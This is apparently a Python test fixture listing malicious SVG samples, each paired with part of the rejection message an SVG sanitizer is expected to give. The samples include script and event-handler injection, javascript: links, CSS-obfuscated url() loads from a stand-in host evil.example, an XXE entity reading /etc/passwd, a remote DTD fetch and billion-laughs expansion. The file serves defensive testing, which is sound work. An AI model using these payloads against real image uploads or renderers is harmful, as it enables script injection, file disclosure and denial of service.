"""SVGs that want more than to draw: each with a word of the refusal it must meet."""

NS = 'xmlns="http://www.w3.org/2000/svg" viewBox="0 0 10 10"'


def svg(inner: str, more: str = "") -> str:
    """A drawing around something."""
    return f'<svg {NS} {more}>{inner}<path d="M0 0h9v9z"/></svg>'


NESTED_USES = "".join(
    f'<g id="g{n}">{"".join("<use href=" + chr(34) + f"#g{n - 1}" + chr(34) + "/>" for _ in range(10))}</g>'
    for n in range(1, 9)
)
CHAIN = "".join(f'<g id="c{n}"><use href="#c{n + 1}"/></g>' for n in range(400))

HOSTILE: dict[str, tuple[str, str]] = {
    "script": (svg("<script>alert(1)</script>"), "runs a program"),
    "script of another name": (svg('<s:script xmlns:s="http://www.w3.org/2000/svg">1</s:script>'), "runs a program"),
    "script of HTML": (svg('<h:script xmlns:h="http://www.w3.org/1999/xhtml">1</h:script>'), "runs a program"),
    "script in metadata": (svg("<metadata><script>1</script></metadata>"), "runs a program"),
    "script in CDATA": (svg("<script><![CDATA[alert(1)]]></script>"), "runs a program"),
    "script from elsewhere": (svg('<script href="https://evil.example/x.js"/>'), "runs a program"),
    "onload": (svg("", 'onload="alert(1)"'), "runs a program"),
    "onclick": (svg('<path d="M0 0" onclick="alert(1)"/>'), "runs a program"),
    "ONMOUSEOVER": (svg('<path d="M0 0" ONMOUSEOVER="alert(1)"/>'), "runs a program"),
    "onbegin of an animation": (svg('<animate onbegin="alert(1)" attributeName="x"/>'), "moves"),
    "set href": (svg('<set attributeName="href" to="javascript:alert(1)"/>'), "moves"),
    "animate": (svg('<animate attributeName="href" values="javascript:alert(1)"/>'), "moves"),
    "foreignObject": (svg("<foreignObject><p>hi</p></foreignObject>"), "another kind"),
    "iframe": (
        svg('<h:iframe xmlns:h="http://www.w3.org/1999/xhtml" src="https://evil.example"/>'),
        "another document",
    ),
    "image from elsewhere": (svg('<image href="https://evil.example/pixel.png"/>'), "another picture"),
    "image within": (svg('<image href="data:image/png;base64,iVBORw0KGgo="/>'), "another picture"),
    "feImage": (svg('<filter id="f"><feImage href="https://evil.example/x.png"/></filter>'), "is a filter"),
    "use from elsewhere": (svg('<use href="https://evil.example/x.svg#a"/>'), "another file"),
    "use by xlink": (
        svg('<use xmlns:x="http://www.w3.org/1999/xlink" x:href="other.svg#a"/>'),
        "another file",
    ),
    "use of a data address": (svg('<use href="data:image/svg+xml,&lt;svg/&gt;#a"/>'), "another file"),
    "link": (svg('<a href="javascript:alert(1)"><path d="M0 0"/></a>'), "is a link"),
    "fill from elsewhere": (svg('<path d="M0 0" fill="url(https://evil.example/x#a)"/>'), "another file"),
    "fill in quotes": (svg("<path d='M0 0' fill='url(\"//evil.example/x#a\")'/>"), "another file"),
    "style attribute": (svg('<path d="M0 0" style="fill:url(https://evil.example/)"/>'), "another file"),
    "style in capitals": (svg('<path d="M0 0" style="fill:URL( https://evil.example/ )"/>'), "another file"),
    "style with escapes": (svg(r'<path d="M0 0" style="fill:\75rl(https://evil.example/)"/>'), "backslash"),
    "style with a comment": (svg('<path d="M0 0" style="fill:u/**/rl(https://evil.example/)"/>'), "can't be read"),
    "style sheet with import": (svg("<style>@import 'https://evil.example/x.css';</style>"), "@ rule"),
    "style sheet with font": (svg("<style>@font-face{src:url(https://evil.example/f)}</style>"), "@ rule"),
    "style sheet from elsewhere": (svg("<style>.a{fill:url(https://evil.example/x)}</style>"), "another file"),
    "style sheet that breaks out": (svg("<style>a{}&lt;/style>&lt;script>1&lt;/script></style>"), "does not belong"),
    "style sheet by instruction": (
        '<?xml-stylesheet href="https://evil.example/x.css"?>' + svg(""),
        "another file",
    ),
    "expression": (svg('<path d="M0 0" style="width:expression(alert(1))"/>'), "runs a program"),
    "binding": (svg('<path d="M0 0" style="-moz-binding:url(#a)"/>'), "runs a program"),
    "image-set": (svg('<path d="M0 0" style="mask:image-set(&quot;//evil.example/x&quot; 1x)"/>'), "another file"),
    "encoded address": (svg('<path d="M0 0" fill="url(&#104;ttps://evil.example/)"/>'), "another file"),
    "text": (svg("<text>Win</text>"), "outlines"),
    "filter": (svg('<filter id="f"><feTurbulence numOctaves="999"/></filter>'), "is a filter"),
    "audio": (svg('<audio href="x.mp3"/>'), "sound"),
    "unknown element": (svg("<blink/>"), "not known here"),
    "entity": ('<!DOCTYPE svg [<!ENTITY a "lol">]>' + svg("&a;"), "declares a text"),
    "billion laughs": (
        '<!DOCTYPE svg [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">]>' + svg("&b;"),
        "declares a text",
    ),
    "file by entity": (
        '<!DOCTYPE svg [<!ENTITY a SYSTEM "file:///etc/passwd">]>' + svg("&a;"),
        "declares a text",
    ),
    "parameter entity": (
        '<!DOCTYPE svg [<!ENTITY % a SYSTEM "https://evil.example/x.dtd"> %a;]>' + svg(""),
        "declares a text",
    ),
    "uses of uses": (svg('<path id="g0" d="M0 0"/>' + NESTED_USES + '<use href="#g8"/>'), "draws more than"),
    "uses itself": (svg('<g id="a"><use href="#a"/></g>'), "within itself"),
    "uses each other": (svg('<g id="a"><use href="#b"/></g><g id="b"><use href="#a"/></g>'), "within itself"),
    "pattern of itself": (
        svg('<pattern id="p" width="1" height="1"><path d="M0 0" fill="url(#p)"/></pattern>'),
        "within itself",
    ),
    "a long chain of uses": (svg(CHAIN), "in a row"),
    "too deep": (svg("<g>" * 60 + "</g>" * 60), "deeper than"),
    "too many": (svg("<g/>" * 5001), "one element too many"),
    "no size": ('<svg xmlns="http://www.w3.org/2000/svg"><path d="M0 0h9v9z"/></svg>', "must say a size"),
    "a size of nothing": ('<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 0 9"/>', "must say a size"),
    "a banner": ('<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 300 100"/>', "nearly square"),
    "nothing to see": (f"<svg {NS}/>", "shows nothing"),
    "no namespace": ('<svg viewBox="0 0 9 9"/>', "must be svg"),
    "HTML": ("<html><body><svg/></body></html>", "must be svg"),
    "broken": (f"<svg {NS}><path>", "is no XML"),
}
